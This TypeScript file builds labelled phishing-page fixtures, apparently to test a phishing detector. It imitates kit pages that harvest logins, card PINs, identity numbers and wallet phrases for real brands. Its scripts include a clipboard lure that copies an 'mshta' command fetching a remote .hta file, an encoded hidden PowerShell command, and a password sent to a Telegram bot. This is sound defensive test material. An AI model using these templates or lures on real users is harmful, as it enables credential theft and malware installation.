// Phishing pages of the shapes that real kits have, each written by hand, and each under the names that kits sit on.
import type { Situation } from './situation.ts'

interface Shape {
  /** Completes "is ... for": what the page does. */
  readonly of: string
  readonly html: string
  /** A name for it that imitates the brand; shapes without a brand have none. */
  readonly lookalike?: string
  readonly signals: readonly string[]
}

interface KitOptions {
  readonly lang?: string
  readonly head?: string
  readonly script?: string
}

/** As kits are unpacked: everything beside the page, dead links, nothing for search engines. */
const kitPage = (title: string, body: string, { lang = 'en', head = '', script = '' }: KitOptions = {}): string =>
  `<!DOCTYPE html><html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title>
<meta name="viewport" content="width=device-width, initial-scale=1"><link rel="stylesheet" href="css/main.css">
<link rel="shortcut icon" href="img/favicon.ico">${head}</head><body>${body}
${script === '' ? '' : `<script>${script}</script>`}</body></html>`

const logo = (brand: string): string => `<div class="top"><img src="img/logo.svg" alt="${brand}"></div>`

/** Links that lead nowhere. */
const dead = (...texts: string[]): string => texts.map(text => `<a href="#">${text}</a>`).join(' ')

const field = (name: string, placeholder: string, type = 'text'): string =>
  `<input type="${type}" name="${name}" placeholder="${placeholder}" required>`

const form = (action: string, button: string, ...fields: string[]): string =>
  `<form action="${action}" method="post">${fields.join('')}<button type="submit">${button}</button></form>`

const shapes: readonly Shape[] = [
  {
    of: 'a log-in copied from a payment service, to a script beside it',
    html: kitPage(
      'Log in to your PayPal account',
      `${logo('PayPal')}${form('login.php', 'Log In', field('login_email', 'Email or mobile number'), field('login_pass', 'Password', 'password'))}
${dead('Having trouble logging in?', 'Sign Up')}<footer>${dead('Contact Us', 'Privacy', 'Legal')} Copyright © 1999-2024 PayPal. All rights reserved.</footer>`,
    ),
    lookalike: 'paypal-login-secure.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a stop to an account, with the card and its PIN to lift it',
    html: kitPage(
      'PayPal: confirm your information',
      `${logo('PayPal')}<h1>Your account has been limited</h1><p>Confirm your card to restore access within 24 hours.</p>
${form('send_card.php', 'Confirm', field('cardholder', 'Name on card'), field('cardnumber', 'Card number'), field('exp', 'MM/YY'), field('cvv', 'CVV'), field('atm_pin', 'ATM PIN', 'password'))}
${dead('Help', 'Contact', 'Privacy')}<p>© PayPal</p>`,
    ),
    lookalike: 'paypal-account-restore.com',
    signals: ['impersonated_brand', 'asks_for_card_pin'],
  },
  {
    of: 'a bank that asks for everything that proves an identity',
    html: kitPage(
      'Wells Fargo: Verify your identity',
      `${logo('Wells Fargo')}<h2>Verify your identity</h2>
${form('process2.php', 'Continue', field('fname', 'Full name'), field('dob', 'Date of birth'), field('ssn', 'Social Security Number'), field('mmn', "Mother's maiden name"), field('password', 'Online password', 'password'))}
${dead('Privacy', 'Security', 'Legal')}<p>© 2024 Wells Fargo Bank, N.A. All rights reserved.</p>`,
    ),
    lookalike: 'wellsfargo-identity-verify.com',
    signals: ['impersonated_brand', 'asks_for_identity_number'],
  },
  {
    of: 'the code that a bank sent, asked for beside the password',
    html: kitPage(
      'Chase Online',
      `${logo('Chase')}<h1>We sent you a code</h1>
${form('otp.php', 'Next', field('userid', 'Username'), field('passwd', 'Password', 'password'), field('otp', 'One-time code'))}
${dead('Resend code', 'Forgot username or password?')}<p>© JPMorgan Chase Bank</p>`,
    ),
    lookalike: 'chase-secure-verify.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a document behind the log-in to a mailbox',
    html: kitPage(
      'Shared document',
      `<img src="images/pdf.png"><h3>Microsoft OneDrive</h3><p>Sign in with your email to view the shared document.</p>
${form('next.php', 'View Document', field('email', 'Email address', 'email'), field('emailpass', 'Email Password', 'password'))}
${dead('Outlook', 'Office 365', 'Other Mail')}<p>© 2024 Microsoft</p>`,
    ),
    lookalike: 'microsoft-onedrive-share.com',
    signals: ['asks_for_mailbox_password'],
  },
  {
    of: 'a mailbox that is nearly full, its address taken from the link',
    html: kitPage(
      'Webmail: mailbox quota',
      `${logo('Webmail')}<h2>Your mailbox is full</h2><p>Validate your account to keep receiving messages. It will be suspended within 24 hours.</p>
${form('post.php', 'Validate', field('user', 'Email'), field('pass', 'Password', 'password'))}${dead('Help')}`,
      { script: "document.querySelector('[name=user]').value = window.location.hash.split('#')[1]" },
    ),
    signals: [],
  },
  {
    of: 'a saved copy of a social network',
    html: kitPage(
      'Facebook – log in or sign up',
      `<img src="Facebook_files/logo.svg" alt="Facebook"><h2>Facebook helps you connect with the people in your life.</h2>
${form('login.php', 'Log In', field('email', 'Email address or phone number'), field('pass', 'Password', 'password'))}
${dead('Forgotten password?', 'Create new account')}<div>${dead('English', 'Deutsch', 'Français')}</div><p>Meta © 2024</p>`,
      {
        head: '<!-- saved from url=(0024)https://www.facebook.com/ --><link rel="stylesheet" href="Facebook_files/a.css"><script src="Facebook_files/b.js"></script>',
      },
    ),
    lookalike: 'facebook-login-security.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a log-in that a script posts to a script',
    html: kitPage(
      'Netflix',
      `${logo('Netflix')}<h1>Sign In</h1><div><input type="text" id="u" placeholder="Email or phone number"><input type="password" id="p" placeholder="Password"><button onclick="go()">Sign In</button></div>
${dead('Need help?', 'Sign up now')}<p>Questions? Call 1-844-505-2993. © Netflix</p>`,
      {
        script:
          "function go(){ $.post('send.php', {u: u.value, p: p.value}, function(){ location.href = 'billing.html' }) }",
      },
    ),
    lookalike: 'netflix-billing-update.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a log-in that tells a messenger’s bot',
    html: kitPage(
      'Outlook Web App',
      `${logo('Outlook')}<h2>Sign in to Outlook</h2><div><input name="email" placeholder="Email"><input type="password" name="pw" placeholder="Password"><button id="s">Sign in</button></div>${dead('Forgot password?')}<p>© Microsoft</p>`,
      {
        script:
          "s.onclick=function(){fetch('https://api.telegram.org/bot123456:AAExample/sendMessage?chat_id=1&text='+pw.value)}",
      },
    ),
    lookalike: 'outlook-signin-owa.com',
    signals: ['credentials_to_messenger_bot'],
  },
  {
    of: 'a parcel that waits for a small fee',
    html: kitPage(
      'USPS: delivery on hold',
      `${logo('USPS')}<h1>Your package could not be delivered</h1><p>Tracking number US9514901185421. A redelivery fee of $1.99 is required. The package is returned within 48 hours.</p>
${form('pay.php', 'Pay and schedule delivery', field('name', 'Full name'), field('address', 'Street address'), field('zip', 'ZIP code'), field('cc_number', 'Card number'), field('cc_exp', 'MM/YY'), field('cvv', 'CVV'))}
${dead('Track another package', 'Contact us')}<p>© United States Postal Service</p>`,
    ),
    lookalike: 'usps-redelivery-fee.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a parcel service in German that wants a card',
    html: kitPage(
      'DHL Sendungsverfolgung',
      `${logo('DHL')}<h1>Ihr Paket wartet</h1><p>Bitte bestätigen Sie die Zahlung der Zollgebühr, damit Ihr Paket zugestellt wird.</p>
${form('zahlung.php', 'Weiter', field('name', 'Name'), field('kartennummer', 'Kartennummer'), field('ablauf', 'MM/JJ'), field('cvv', 'CVV'))}
${dead('Hilfe', 'Datenschutz', 'Impressum')}<p>© DHL</p>`,
      { lang: 'de' },
    ),
    lookalike: 'dhl-paket-zustellung.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a wallet that is to be restored by its words',
    html: kitPage(
      'MetaMask: restore your wallet',
      `${logo('MetaMask')}<h1>Restore your wallet</h1><p>Import your MetaMask wallet with your secret recovery phrase.</p>
${form('import.php', 'Import', ...Array.from({ length: 12 }, (_, at) => field(`w${at}`, `${at + 1}.`)))}${dead('Support', 'Terms')}`,
    ),
    lookalike: 'metamask-wallet-restore.com',
    signals: ['asks_for_wallet_phrase'],
  },
  {
    of: 'a list of wallets, each to be connected by phrase or key',
    html: kitPage(
      'Dapp Sync',
      `<h1>Connect your wallet</h1><div>${['Trust Wallet', 'MetaMask', 'Ledger', 'Phantom'].map(name => `<div class="w"><img src="img/${name}.png" alt="${name}">${name}</div>`).join('')}</div>
${form('submit.php', 'Connect', '<textarea name="phrase" placeholder="Enter your recovery phrase"></textarea>', field('private_key', 'Private key'))}`,
    ),
    signals: ['asks_for_wallet_phrase'],
  },
  {
    of: 'a check for robots that wants a command to be run',
    html: kitPage(
      'Just a moment',
      `<h1>Verify you are human</h1><p>Complete these steps:</p><ol><li>Press the Windows key + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol><button id="v">Verify</button>`,
      { script: "v.onclick=function(){navigator.clipboard.writeText('mshta https://x.example/a.hta')}" },
    ),
    signals: ['paste_command_lure'],
  },
  {
    of: 'a missing font that a command repairs',
    html: kitPage(
      'Word Online',
      `<h1>The extension is not installed</h1><p>How to fix: open the Run dialog (Win + R), paste the copied text and press Enter.</p><button id="f">Copy fix</button>`,
      { script: "f.onclick=function(){navigator.clipboard.writeText('powershell -w h -enc SQBFAFgA')}" },
    ),
    signals: ['paste_command_lure'],
  },
  {
    of: 'a warning of a virus that holds its visitors',
    html: kitPage(
      'Windows Defender Security Center',
      `<div onclick="full()"><h1>Microsoft Windows Firewall Alert</h1><p>Your PC has been infected: Trojan_Spyware. Access to this system is blocked for security reasons. Do not close this window or restart your computer. Call Windows Support: +1 (888) 555-0142</p></div>`,
      {
        script:
          'function full(){document.documentElement.requestFullscreen()} window.onbeforeunload=function(){return 1}',
      },
    ),
    signals: ['tech_support_scare'],
  },
  {
    of: 'a virus scan in another’s name',
    html: kitPage(
      'McAfee Total Protection',
      `${logo('McAfee')}<h2>McAfee: scan results</h2><ul><li>Threat detected: Adware</li><li>Threat detected: Trojan</li><li>Threat detected: Spyware</li></ul><p>Your McAfee subscription has expired.</p><button>Renew now</button>`,
    ),
    lookalike: 'mcafee-renew-protection.com',
    signals: ['fake_virus_scan'],
  },
  {
    of: 'coins that come back doubled',
    html: kitPage(
      'Tesla 10 000 BTC event',
      `${logo('Tesla')}<h1>Official event</h1><p>Send from 0.1 to 20 BTC to the address below and receive double back. One time only.</p><code>bc1qexampleexampleexampleexampleexample00</code><div>Waiting for your payment</div>`,
    ),
    lookalike: 'tesla-btc-event.com',
    signals: ['coin_doubling'],
  },
  {
    of: 'rewards of a game behind a social log-in',
    html: kitPage(
      'PUBG MOBILE: free UC and skins',
      `${logo('PUBG')}<h1>Collect your reward</h1><div>${'<button>Collect</button>'.repeat(6)}</div><h3>Log in with Facebook to claim</h3>
${form('check.php', 'Log In', field('email', 'Email or phone'), field('password', 'Password', 'password'))}`,
      { head: '<style>body{user-select:none}</style>', script: 'document.oncontextmenu=function(){return false}' },
    ),
    signals: [],
  },
  {
    of: 'a browser window drawn into the page',
    html: kitPage(
      'Team tournament: vote',
      `<h1>Vote for your team</h1><div class="window"><div class="title-bar">Sign in to Steam</div><div id="url-bar">https://steamcommunity.com/openid/login</div>
${form('auth.php', 'Sign in', field('username', 'Steam account name'), field('password', 'Password', 'password'))}</div>`,
    ),
    lookalike: 'steamcommunity-vote-login.com',
    signals: ['fake_browser_window'],
  },
  {
    of: 'a password that no field of that type asks for',
    html: kitPage(
      'Sign in – Apple',
      `${logo('Apple')}<h1>Apple ID</h1>${form('verify.php', 'Continue', field('appleid', 'Apple ID'), '<input type="text" name="password" class="dots" placeholder="Password">')}
${dead('Forgot Apple ID or password?', 'Create yours now')}<p>Copyright © 2024 Apple Inc. All rights reserved.</p>`,
      { head: '<style>.dots{-webkit-text-security:disc}</style>' },
    ),
    lookalike: 'appleid-verify-account.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a brand written in coded letters',
    html: kitPage(
      '&#65;&#109;&#97;&#122;&#111;&#110; &#83;&#105;&#103;&#110; &#73;&#110;',
      `<img src="img/l.png" alt="&#65;&#109;&#97;&#122;&#111;&#110;"><h1>&#83;&#105;&#103;&#110;&#32;&#105;&#110;</h1>
${form('signin.php', 'Continue', field('email', 'Email or mobile phone number'), field('password', 'Password', 'password'))}
${dead('Conditions of Use', 'Privacy Notice', 'Help')}<p>© 1996-2024, &#65;&#109;&#97;&#122;&#111;&#110;.com, Inc.</p>`,
    ),
    lookalike: 'amazon-signin-account.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a copy that loads its look from the bank',
    html: kitPage(
      'Bank of America | Online Banking | Sign In',
      `<img src="https://www.bankofamerica.com/logo.svg" alt="Bank of America"><h1>Log In to Online Banking</h1>
${form('step1.php', 'Log In', field('onlineId', 'User ID'), field('passcode', 'Password', 'password'))}
${dead('Forgot ID/Password?', 'Enroll', 'Security & Help')}<p>Bank of America, N.A. Member FDIC. © 2024 Bank of America Corporation.</p>`,
      {
        head: '<link rel="stylesheet" href="https://www.bankofamerica.com/a.css"><script src="https://www.bankofamerica.com/b.js"></script>',
      },
    ),
    lookalike: 'bankofamerica-online-signin.com',
    signals: ['impersonated_brand'],
  },
]

interface Host {
  readonly of: string
  readonly domain: string
  readonly parts: Partial<Situation>
  readonly verdict: Situation['verdict']
}

const OFFSHORE = [64_497, 'Offshore Servers Ltd'] as const

const hosts: readonly Host[] = [
  {
    of: 'a plain name of unknown age',
    domain: 'northern-lights-hub.com',
    parts: { mail: 'none', network: OFFSHORE },
    verdict: 'suspicious',
  },
  {
    of: 'an old site that was broken into',
    domain: 'ringing-bells.org',
    parts: { age_days: 2_922, mail: 'good' },
    verdict: 'suspicious',
  },
  {
    of: 'a free host',
    domain: 'northern-lights.pages.dev',
    parts: { age_days: 2_200, mail: 'none', network: [13_335, 'Cloudflare, Inc.'] },
    verdict: 'suspicious',
  },
]

const onLookalike = { age_days: 3, mail: 'none', certificate: 'new', network: OFFSHORE, verdict: 'malicious' } as const

export const kitSituations: readonly Situation[] = shapes.flatMap(({ of, html, lookalike, signals }) => [
  ...hosts.map(host => ({
    ...host.parts,
    of: `${of}, on ${host.of}`,
    domain: host.domain,
    page: { html },
    verdict: host.verdict,
    signals,
  })),
  ...(lookalike === undefined
    ? []
    : [{ ...onLookalike, of: `${of}, on a new look-alike`, domain: lookalike, page: { html }, signals }]),
])
